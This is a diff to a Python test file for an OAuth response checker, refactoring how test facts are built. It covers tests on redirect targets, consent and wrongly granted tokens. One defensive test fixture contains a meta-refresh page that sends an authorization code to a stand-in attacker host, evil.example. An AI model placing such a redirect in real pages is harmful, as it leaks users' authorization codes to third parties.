@@ -73,7 +73,7 @@ def consented(grants: Grants, client: str, place: Place = PLACE, **more: str | N
     """Consent to what a client asks for. Returns the code."""
     consent = answers.authorize(place, grants, asking(client, **more)).consent
     assert consent is not None
-    return grants.issue_code(consent.code(place, NOW))
+    return grants.issue_code(consent, NOW)
 
 
 @cache
@@ -84,9 +84,9 @@ def prepared(step: Step) -> Prepared:
     code = consented(grants, client)
     own = registering(token_endpoint_auth_method="client_secret_post")
     found = {
-        Step.CHALLENGE: lambda: Prepared(step, answers.challenge(PLACE)),
-        Step.RESOURCE: lambda: Prepared(step, answers.resource_metadata(PLACE)),
-        Step.SERVER: lambda: Prepared(step, answers.server_metadata(PLACE)),
+        Step.CHALLENGE: lambda: answers.challenge(PLACE),
+        Step.RESOURCE: lambda: answers.metadata(PLACE, "resource-metadata"),
+        Step.SERVER: lambda: answers.metadata(PLACE, "server-metadata"),
         Step.REGISTER: lambda: answers.register(PLACE, grants, own),
         Step.AUTHORIZE: lambda: answers.authorize(PLACE, grants, asking(client)),
         Step.TOKEN: lambda: answers.token(PLACE, grants, exchanging(client, code), NOW),
@@ -95,15 +95,15 @@ def prepared(step: Step) -> Prepared:
     return found[step]()
 
 
-def facts_of(found: Prepared) -> dict[str, str]:
+def facts_of(step: Step, found: Prepared) -> dict[str, str]:
     """Return what the check knows of a step."""
     uri = "" if found.consent is None else found.consent.redirect_uri
-    return {"step": found.step, "right": found.right.text, "redirect": uri}
+    return {"step": step, "right": found.right.text, "redirect": uri}
 
 
 def codes_of(step: Step, text: str) -> list[str]:
     """Return the problems of a text."""
-    found = judge(facts_of(prepared(step)), text).diagnostics
+    found = judge(facts_of(step, prepared(step)), text).diagnostics
     assert all(describe(one) for one in found)
     return [one.code.removeprefix("oauth.") for one in found]
 
@@ -260,7 +260,7 @@ ELSEWHERE: Final = (
 @pytest.mark.parametrize("location", ELSEWHERE)
 def test_a_redirect_to_elsewhere_cannot_be_sent_even_anyway(location: str) -> None:
     """Only the registered address is followed."""
-    facts = facts_of(prepared(Step.AUTHORIZE))
+    facts = facts_of(Step.AUTHORIZE, prepared(Step.AUTHORIZE))
     for text in (
         f"HTTP/1.1 302 Found\nlocation: {location}",
         f"HTTP/1.1 302 Found\nlocation: {LOCATION}\nlocation: {location}",
@@ -276,7 +276,7 @@ def test_no_page_goes_out_beside_a_redirect(status: str) -> None:
     """What a browser does not follow it shows: a page with the code could lead anywhere."""
     page = '<meta http-equiv="refresh" content="0;url=https://evil.example/?c={code}">'
     text = f"HTTP/1.1 {status}\nlocation: {LOCATION}\ncontent-type: text/html\n\n{page}"
-    verdict = judge(facts_of(prepared(Step.AUTHORIZE)), text)
+    verdict = judge(facts_of(Step.AUTHORIZE, prepared(Step.AUTHORIZE)), text)
     assert (verdict.line, verdict.forced) == (None, None)
     assert "oauth.page-elsewhere" in {one.code for one in verdict.diagnostics}
 
@@ -319,7 +319,9 @@ def test_what_is_granted_by_mistake_is_a_problem_of_its_own() -> None:
     """A request that must be refused is not granted by a slip."""
     refused = answers.token(PLACE, Grants(), exchanging("nobody", "x"), NOW)
     granted = prepared(Step.TOKEN).right.text
-    assert [one.code for one in judge(facts_of(refused), granted).diagnostics] == ["oauth.granted"]
+    assert [one.code for one in judge(facts_of(Step.TOKEN, refused), granted).diagnostics] == [
+        "oauth.granted"
+    ]
 
 
 REDIRECTS: Final = (
@@ -438,9 +440,11 @@ def test_a_consent_to_each_registered_address_can_be_sent(uri: str) -> None:
     client = registered(grants, redirect_uris=[uri])
     found = answers.authorize(PLACE, grants, asking(client, redirect_uri=uri))
     for text in found.ready.values():
-        assert judge(facts_of(found), text).diagnostics == ()
+        assert judge(facts_of(Step.AUTHORIZE, found), text).diagnostics == ()
     for row in (one for one in mistakes().values() if one.step is Step.AUTHORIZE):
-        assert judge(facts_of(found), row.put_into(found.right, PLACE).text).forced, row.id
+        assert judge(
+            facts_of(Step.AUTHORIZE, found), row.put_into(found.right, PLACE).text
+        ).forced, row.id
 
 
 @pytest.mark.parametrize(
